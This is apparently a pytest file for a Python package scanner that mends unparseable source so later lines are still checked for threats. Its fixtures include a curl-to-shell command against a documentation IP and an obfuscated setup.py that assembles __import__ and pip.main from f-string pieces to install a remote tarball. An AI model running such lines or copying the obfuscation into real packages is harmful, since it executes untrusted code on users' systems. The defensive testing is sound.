"""Mending source that does not parse (caplet._scan._mend): the rest of the file is read."""

from __future__ import annotations

import ast
import textwrap

import pytest

from caplet._findings import Severity
from caplet._scan._mend import MAX_MENDS, mend, requoted
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source


def mended(source: str) -> tuple[ast.Module, tuple[int, ...]] | None:
    text = textwrap.dedent(source)
    try:
        ast.parse(text)
    except SyntaxError as exc:
        return mend(text, "m.py", exc)
    raise AssertionError("the source parses")


def test_a_python_2_print_statement_is_replaced_and_the_rest_is_kept() -> None:
    result = mended(
        """
        import os
        print "installing"
        os.system("id")
        """
    )
    assert result is not None
    tree, lines = result
    assert lines == (3,)
    assert [type(s).__name__ for s in tree.body] == ["Import", "Pass", "Expr"]
    assert tree.body[2].lineno == 4  # line numbers are the file's


def test_a_line_that_opens_a_block_keeps_the_block() -> None:
    result = mended(
        """
        def run(self) -> print "x":
            exec(payload)
        """
    )
    assert result is not None
    tree, _ = result
    assert isinstance(tree.body[0], ast.If)
    assert isinstance(tree.body[0].body[0], ast.Expr)


def test_a_file_that_cannot_be_mended_is_given_up() -> None:
    # a block left empty at the end of the file: the line after it is the end
    assert mended("def f():\n") is None
    # more broken lines than the bound
    assert mended("print 'a'\n" * (MAX_MENDS + 1)) is None


def test_a_payload_below_a_line_of_newer_or_older_syntax_is_still_found() -> None:
    source = textwrap.dedent(
        """
        import os
        print "setup"
        os.system("curl -s http://198.51.100.2/i | sh")
        """
    )
    findings = scan_source(source, "setup.py", mode=ScanMode.PACKAGE)
    danger = {f.rule_id for f in findings if f.severity is Severity.DANGER}
    assert "CPL-THR-015" in danger
    (syntax,) = [f for f in findings if f.rule_id == "CPL-SCAN-003"]
    assert syntax.severity is Severity.WARNING
    assert syntax.line == 3
    assert "lines 3 not read" in syntax.message


@pytest.mark.parametrize("source", ["x = ", "def f(:\n    pass\n"])
def test_text_that_is_not_python_is_reported_as_before(source: str) -> None:
    findings = scan_source(source, "m.py")
    assert [f.rule_id for f in findings] == ["CPL-SCAN-003"]


# -- PEP 701 f-strings (Python 3.12) read on an older parser (recall5, issue 16) ---------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ('x = f"{"ma"}{"in"}"', "x = f\"{'ma'}{'in'}\""),
        ('y = f"{d["k"]}: {"a" + "b"}"  # c', "y = f\"{d['k']}: {'a' + 'b'}\"  # c"),
        ("z = rf'{'a'}\\d' + 'p'", "z = rf'{\"a\"}\\d' + 'p'"),
    ],
)
def test_strings_reusing_an_f_strings_quote_are_requoted(line: str, expected: str) -> None:
    requote = requoted(line)
    assert requote == expected
    ast.parse(requote)


@pytest.mark.parametrize(
    "line",
    [
        'z = f"{a}" + "plain"',  # nothing to rewrite
        "w = f\"{'a'}\"",  # already the other quote
        'v = f"{"it\'s"}"',  # holds the other quote
        'u = f"{"a\\n"}"',  # a backslash
        'elif"{"x"}"',  # a name's end, not a prefix
    ],
)
def test_lines_without_a_rewritable_pep_701_string_are_left_alone(line: str) -> None:
    assert requoted(line) is None


def test_a_payload_named_by_a_pep_701_f_string_is_read_not_dropped() -> None:
    source = textwrap.dedent(
        """\
        from setuptools import setup
        甲 = getattr(__builtins__, f"{"__"}{"imp"}{"ort"}{"__"}")
        getattr(甲(f"{"p"}{"ip"}"), f"{"ma"}{"in"}")(["install", "https://x.example/s2.tgz"])
        setup(name="m", version="1")
        """
    )
    findings = scan_source(source, "setup.py", mode=ScanMode.PACKAGE)
    assert {"CPL-THR-003", "CPL-THR-019"} <= {
        f.rule_id for f in findings if f.severity is Severity.DANGER
    }
